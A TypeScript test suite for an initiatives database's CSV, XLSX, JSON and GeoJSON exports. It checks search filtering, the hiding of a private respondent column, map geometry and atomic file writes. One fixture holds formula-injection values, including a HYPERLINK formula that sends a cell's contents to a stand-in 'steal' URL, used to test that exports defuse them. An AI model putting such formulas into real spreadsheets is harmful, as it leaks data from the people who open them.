import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable, type Writable } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FeatureCollection, Position } from 'geojson';
import { sql } from 'kysely';
import { DOMAINS, FUNDING_KINDS, SCOPES } from '../../src/domain/codes.ts';
import {
  INITIATIVE_COLUMNS,
  initiativeCells,
  neutraliseFormula,
} from '../../src/domain/columns.ts';
import { isAppError } from '../../src/domain/errors.ts';
import { canonicalInitiative } from '../../src/domain/initiative.ts';
import { Initiative, type InitiativeInput } from '../../src/domain/schemas.ts';
import type { SearchQuery } from '../../src/domain/search.ts';
import { writeFileAtomically } from '../../src/io/export.ts';
import { readableHeader } from '../../src/io/readable.ts';
import { readReferenceData } from '../../src/io/reference.ts';
import { findInitiativeBySlug } from '../../src/repositories/initiatives.ts';
import { listRegions } from '../../src/repositories/regions.ts';
import { listSources } from '../../src/repositories/sources.ts';
import { searchInitiatives } from '../../src/search/index.ts';
import {
  EXPORT_ENTITIES,
  type PreparedExport,
  prepareDatasetExport,
  prepareSearchExport,
} from '../../src/services/exports.ts';
import { seedData } from '../../src/services/seed.ts';
import { DIALECTS, type TestDb } from '../helpers/databases.ts';
import { REFERENCE_DIR } from '../helpers/fixtures.ts';
import { after, before, describe, test } from '../helpers/suite.ts';

/** An initiative whose texts a spreadsheet would run as formulas if they were written as they are. */
const HOSTILE: InitiativeInput = {
  slug: 'formula-bait',
  name: '=HYPERLINK("https://example.org/steal?"&A1,"Click")',
  acronym: '@SUM',
  summary: '+1 programme, described by its operator as -1 risk',
  homeCountry: 'ES',
  submittingRegion: 'ES51',
  scopes: ['regional'],
  status: 'ongoing',
  domain: 'ecosystem',
  type: 'ongoing_project',
  sources: [{ source: 'preciseu-d3-1', note: '=1+1' }],
  notes: 'harmless text',
  extra: { survey_ref: '=A1' },
};

/** What an export writes, as a buffer. */
async function written(prepared: PreparedExport): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await prepared.write(out);
  out.end();
  return Buffer.concat(chunks);
}

/** Reads an XLSX workbook from a buffer. */
async function workbookOf(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.read(Readable.from([buffer]));
  return workbook;
}

function csvRows(buffer: Buffer): string[][] {
  return parseCsv(buffer, { bom: true, relax_column_count: false }) as string[][];
}

/** Every hit of a search, page by page, as the list page shows them. */
async function allHits(
  t: TestDb,
  query: Omit<SearchQuery, 'page' | 'pageSize'>,
): Promise<string[]> {
  const slugs: string[] = [];
  for (let page = 1; ; page++) {
    const r = await searchInitiatives(t.db, { ...query, page, pageSize: 100 });
    slugs.push(...r.hits.map((h) => h.slug));
    if (slugs.length >= r.total) return slugs;
  }
}

/** Twice the signed planar area of a ring: positive when it runs anticlockwise. */
function ringArea(ring: Position[]): number {
  let sum = 0;
  for (let i = 0; i + 1 < ring.length; i++) {
    const [x0 = 0, y0 = 0] = ring[i] ?? [];
    const [x1 = 0, y1 = 0] = ring[i + 1] ?? [];
    sum += x0 * y1 - x1 * y0;
  }
  return sum;
}

for (const dialect of DIALECTS) {
  describe(`exports on ${dialect.name}`, { skip: dialect.skip }, () => {
    let t: TestDb;
    before(async () => {
      t = await dialect.open();
      const data = await readReferenceData(REFERENCE_DIR);
      await seedData(t.db, {
        ...data,
        initiatives: [...data.initiatives, Initiative.parse(HOSTILE)],
      });
      // A curator-only column that must never leave the database.
      await sql`update evidence set respondent_ref = 'respondent-secret-42'`.execute(t.db.kysely);
    });
    after(async () => {
      await t?.dispose();
    });

    test('CSV of a filtered search with form=codes holds exactly the rows of the search, in its order, under the import columns', async () => {
      const raw = { q: 'medicine', country: ['ES', 'DE'], status: 'ongoing', form: 'codes' };
      const expected = await allHits(t, {
        text: 'medicine',
        filters: { country: ['ES', 'DE'], status: ['ongoing'] },
        sort: 'relevance',
      });
      assert.ok(expected.length > 3, 'the search finds several initiatives');
      const prepared = await prepareSearchExport(t.db, raw, 'csv');
      assert.equal(prepared.counts.initiatives, expected.length);
      assert.match(prepared.fileName, /^permed-atlas-initiatives-codes-\d{4}-\d{2}-\d{2}\.csv$/);
      const [headers, ...rows] = csvRows(await written(prepared));
      assert.deepEqual(headers, [...INITIATIVE_COLUMNS]);
      assert.deepEqual(
        rows.map((r) => r[0]),
        expected,
      );
      // Each row is the stored record, cell for cell.
      for (const row of rows.slice(0, 5)) {
        const record = await findInitiativeBySlug(t.db.kysely, row[0] ?? '');
        assert.ok(record);
        const { id, version, createdAt, updatedAt, ...content } = record;
        const cells = initiativeCells(canonicalInitiative(content));
        assert.deepEqual(
          row,
          INITIATIVE_COLUMNS.map((c) => neutraliseFormula(cells[c] ?? '')),
        );
      }
    });

    test('the page and page size of a search do not cut its export, and a bad parameter is refused', async () => {
      const total = (
        await searchInitiatives(t.db, { text: '', filters: {}, sort: 'name', page: 1, pageSize: 1 })
      ).total;
      const prepared = await prepareSearchExport(t.db, { page: '3', pageSize: '5' }, 'json');
      assert.equal(prepared.counts.initiatives, total);
      await assert.rejects(
        prepareSearchExport(t.db, { status: 'finished' }, 'csv'),
        (e) => isAppError(e, 'invalid_parameter') && /allowed values/.test(e.message),
      );
      await assert.rejects(prepareSearchExport(t.db, { page: '0' }, 'csv'), (e) =>
        isAppError(e, 'invalid_parameter'),
      );
      await assert.rejects(
        prepareSearchExport(t.db, { form: 'json' }, 'csv'),
        (e) => isAppError(e, 'invalid_parameter') && /form=codes/.test(e.message),
      );
    });

    test('text that a spreadsheet would run as a formula gets a leading apostrophe in CSV and XLSX, not in JSON', async () => {
      const raw = { q: 'programme operator risk', country: 'ES', form: 'codes' };
      const [headers, row] = csvRows(await written(await prepareSearchExport(t.db, raw, 'csv')));
      assert.deepEqual(headers, [...INITIATIVE_COLUMNS, 'survey_ref']);
      const cell = (h: string) => row?.[headers?.indexOf(h) ?? -1];
      assert.equal(cell('slug'), 'formula-bait');
      assert.equal(cell('name'), `'${HOSTILE.name}`);
      assert.equal(cell('acronym'), "'@SUM");
      assert.equal(cell('summary'), `'${HOSTILE.summary}`);
      assert.equal(cell('notes'), 'harmless text');
      assert.equal(cell('survey_ref'), "'=A1");

      const workbook = await workbookOf(
        await written(await prepareSearchExport(t.db, raw, 'xlsx')),
      );
      const sheet = workbook.worksheets[0];
      assert.ok(sheet);
      const values = (sheet.getRow(2).values as unknown[]).slice(1);
      assert.equal(values[INITIATIVE_COLUMNS.indexOf('name')], `'${HOSTILE.name}`);
      assert.equal(values[INITIATIVE_COLUMNS.indexOf('acronym')], "'@SUM");
      assert.equal(values[headers?.indexOf('survey_ref') ?? -1], "'=A1");
      for (const v of values)
        assert.equal(typeof v === 'object' && v !== null && 'formula' in v, false);

      const json = JSON.parse(
        (await written(await prepareSearchExport(t.db, raw, 'json'))).toString(),
      );
      assert.equal(json[0].name, HOSTILE.name);
      assert.deepEqual(json[0].extra, { survey_ref: '=A1' });
    });

    test('JSON of a search holds canonical initiatives that validate as import input', async () => {
      const json = JSON.parse(
        (await written(await prepareSearchExport(t.db, { region: 'ES51' }, 'json'))).toString(),
      ) as unknown[];
      assert.ok(json.length > 10);
      for (const item of json) {
        const parsed = Initiative.parse(item);
        assert.deepEqual(item, canonicalInitiative(parsed));
        const record = await findInitiativeBySlug(t.db.kysely, parsed.slug);
        assert.ok(record);
        const { id, version, createdAt, updatedAt, ...content } = record;
        assert.deepEqual(item, canonicalInitiative(content));
      }
    });

    test('XLSX of the whole dataset has one sheet per entity, each with a frozen header row and an auto filter', async () => {
      const prepared = await prepareDatasetExport(t.db, 'xlsx');
      const workbook = await workbookOf(await written(prepared));
      assert.deepEqual(
        workbook.worksheets.map((s) => s.name),
        [...EXPORT_ENTITIES],
      );
      for (const sheet of workbook.worksheets) {
        const view = sheet.views[0];
        assert.equal(view?.state, 'frozen', sheet.name);
        assert.equal((view as { ySplit?: number }).ySplit, 1, sheet.name);
        const width = sheet.getRow(1).cellCount;
        assert.ok(width > 1, sheet.name);
        const last = sheet.getRow(1).getCell(width).address.replace(/\d+$/, '');
        assert.equal(sheet.autoFilter, `A1:${last}1`, sheet.name);
        assert.equal(sheet.getRow(1).font?.bold, true, sheet.name);
        const count = prepared.counts[sheet.name as (typeof EXPORT_ENTITIES)[number]] ?? 0;
        assert.ok(count > 0, `${sheet.name} has records`);
        assert.equal(
          sheet.actualRowCount,
          count + 1,
          `${sheet.name}: a header and one row per record`,
        );
      }
      // A workbook for people: the import columns, in words.
      const initiatives = workbook.getWorksheet('initiatives');
      assert.deepEqual(((initiatives?.getRow(1).values ?? []) as unknown[]).slice(1), [
        ...INITIATIVE_COLUMNS.map(readableHeader),
        'Survey ref',
      ]);
    });

    test('JSON of the whole dataset has one array per entity, and no respondent anywhere', async () => {
      const text = (await written(await prepareDatasetExport(t.db, 'json'))).toString();
      assert.ok(!text.includes('respondent'), 'the respondent column is never exported');
      const data = JSON.parse(text) as Record<string, unknown[]>;
      assert.deepEqual(Object.keys(data), [...EXPORT_ENTITIES]);
      const reference = await readReferenceData(REFERENCE_DIR);
      assert.equal(data.initiatives?.length, reference.initiatives.length + 1);
      assert.equal(data.evidence?.length, reference.evidence?.length);
      assert.equal(data.regions?.length, reference.regions.length);
      const xlsx = await written(await prepareDatasetExport(t.db, 'xlsx', 'evidence'));
      const workbook = await workbookOf(xlsx);
      assert.deepEqual(
        workbook.worksheets.map((s) => s.name),
        ['evidence'],
      );
    });

    test('spreadsheets for people: names and labels instead of codes, lists as "a; b", no JSON in any cell', async () => {
      const workbook = await workbookOf(await written(await prepareDatasetExport(t.db, 'xlsx')));
      for (const sheet of workbook.worksheets) {
        sheet.eachRow((row, n) => {
          for (const v of (row.values as unknown[]).slice(1)) {
            if (typeof v === 'string')
              assert.ok(!/^\s*[[{]/.test(v), `${sheet.name} row ${n}: ${v.slice(0, 60)}`);
          }
        });
      }
      // Each ES51 initiative's row read back against its record.
      const csv = await written(await prepareSearchExport(t.db, { region: 'ES51' }, 'csv'));
      const [headers = [], ...rows] = csvRows(csv);
      const cell = (row: string[], h: string) => row[headers.indexOf(readableHeader(h))] ?? '';
      const places = new Map((await listRegions(t.db.kysely)).map((r) => [r.code, r.name]));
      const titles = new Map((await listSources(t.db.kysely)).map((s) => [s.code, s.title]));
      const label = (list: readonly { code: string; label: string }[], code: string) =>
        list.find((c) => c.code === code)?.label;
      let funded = 0;
      assert.ok(rows.length > 10);
      for (const row of rows) {
        const record = await findInitiativeBySlug(t.db.kysely, cell(row, 'slug'));
        assert.ok(record, cell(row, 'slug'));
        assert.equal(cell(row, 'home_country'), places.get(record.homeCountry));
        assert.equal(cell(row, 'domain'), label(DOMAINS, record.domain));
        assert.equal(cell(row, 'scopes'), record.scopes.map((c) => label(SCOPES, c)).join('; '));
        for (const s of record.sources)
          assert.ok(cell(row, 'sources').includes(titles.get(s.source) ?? '?'), s.source);
        for (const f of record.funding) {
          assert.ok(cell(row, 'funding').includes(label(FUNDING_KINDS, f.kind) ?? '?'), f.kind);
          if (f.funder) assert.ok(cell(row, 'funding').includes(f.funder));
        }
        if (record.funding.length > 0) funded++;
      }
      assert.ok(funded > 0, 'funding is read back from some rows');
    });

    test('CSV of the whole dataset is the initiatives, or the one entity asked for', async () => {
      const all = await prepareDatasetExport(t.db, 'csv', undefined, 'codes');
      assert.deepEqual(Object.keys(all.counts), ['initiatives']);
      const [headers, ...rows] = csvRows(await written(all));
      assert.equal(headers?.[0], 'slug');
      assert.equal(rows.length, all.counts.initiatives);
      const regions = await prepareDatasetExport(t.db, 'csv', 'regions', 'codes');
      const [regionHeaders, ...regionRows] = csvRows(await written(regions));
      assert.deepEqual(regionHeaders, [
        'code',
        'name',
        'native_name',
        'level',
        'parent',
        'country',
        'partner',
        'sources',
      ]);
      assert.equal(regionRows.length, regions.counts.regions);
      await assert.rejects(prepareDatasetExport(t.db, 'geojson', 'regions'), (e) =>
        isAppError(e, 'invalid_parameter'),
      );
    });

    test('GeoJSON is a FeatureCollection whose counts add up to the result, by home country and by submitting region', async () => {
      const raw = { status: ['ongoing', 'planned'] };
      const slugs = await allHits(t, {
        text: '',
        filters: { status: ['ongoing', 'planned'] },
        sort: 'name',
      });
      const prepared = await prepareSearchExport(t.db, raw, 'geojson');
      const geo = JSON.parse((await written(prepared)).toString()) as FeatureCollection;
      assert.equal(geo.type, 'FeatureCollection');
      assert.equal('crs' in geo, false);
      const byKind = (counted: string) =>
        geo.features.filter((f) => f.properties?.counted === counted);
      const countries = byKind('home_country');
      const regions = byKind('submitting_region');
      assert.equal(countries.length + regions.length, geo.features.length);
      const sum = (fs: typeof countries) => fs.reduce((a, f) => a + Number(f.properties?.count), 0);
      assert.equal(sum(countries), slugs.length);
      const listed = countries.flatMap((f) =>
        ((f.properties?.initiatives ?? []) as { slug: string }[]).map((i) => i.slug),
      );
      assert.deepEqual([...listed].sort(), [...slugs].sort());
      let withRegion = 0;
      for (const slug of slugs) {
        const record = await findInitiativeBySlug(t.db.kysely, slug);
        if (record?.submittingRegion) withRegion++;
      }
      assert.equal(sum(regions), withRegion);
      for (const f of geo.features) {
        assert.equal(f.type, 'Feature');
        assert.equal(f.properties?.count, ((f.properties?.initiatives ?? []) as unknown[]).length);
        assert.ok(['code', 'name', 'level'].every((k) => typeof f.properties?.[k] === 'string'));
        if (f.geometry === null) continue;
        assert.ok(f.geometry.type === 'Polygon' || f.geometry.type === 'MultiPolygon');
        const polygons =
          f.geometry.type === 'Polygon' ? [f.geometry.coordinates] : f.geometry.coordinates;
        for (const polygon of polygons) {
          for (const [k, ring] of polygon.entries()) {
            for (const [lon = 0, lat = 0] of ring) {
              assert.ok(Math.abs(lon) <= 180 && Math.abs(lat) <= 90, 'longitude, latitude');
            }
            // The right-hand rule: exteriors anticlockwise, holes clockwise.
            if (f.properties?.code !== 'RU')
              assert.equal(ringArea(ring) > 0, k === 0, f.properties?.code);
          }
        }
      }
      const spain = countries.find((f) => f.properties?.code === 'ES');
      assert.equal(spain?.id, 'country:ES');
      assert.equal(spain?.properties?.level, 'country');
      assert.equal(spain?.properties?.name, 'Spain');
      // Rivne oblast has no NUTS outline: its outline is Natural Earth's admin-1 subdivision.
      const rivne = regions.find((f) => f.properties?.code === 'UA-56');
      assert.ok(rivne);
      assert.equal(rivne.geometry?.type, 'Polygon');
    });
  });
}

describe('writing a file atomically', () => {
  const dir = mkdtempSync(join(tmpdir(), 'atlas-export-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('a failed export leaves neither a half-written file nor a temporary one, and keeps the old file', async () => {
    const file = join(dir, 'out.csv');
    const failing = async (out: Writable) => {
      out.write('slug,name\n'.repeat(10_000));
      throw new Error('the database went away');
    };
    await assert.rejects(writeFileAtomically(file, failing), /the database went away/);
    assert.equal(existsSync(file), false);
    assert.deepEqual(readdirSync(dir), []);

    writeFileSync(file, 'the previous export\n');
    await assert.rejects(writeFileAtomically(file, failing), /went away/);
    assert.equal(readFileSync(file, 'utf8'), 'the previous export\n');
    assert.deepEqual(readdirSync(dir), ['out.csv']);

    await writeFileAtomically(file, async (out) => {
      out.write('slug\nnew\n');
    });
    assert.equal(readFileSync(file, 'utf8'), 'slug\nnew\n');
    assert.deepEqual(readdirSync(dir), ['out.csv']);
  });

  test('a folder that does not exist is named in the error', async () => {
    await assert.rejects(
      writeFileAtomically(join(dir, 'missing', 'out.csv'), async () => {}),
      /cannot write .*missing.*out\.csv \(no such folder\)/,
    );
  });
});
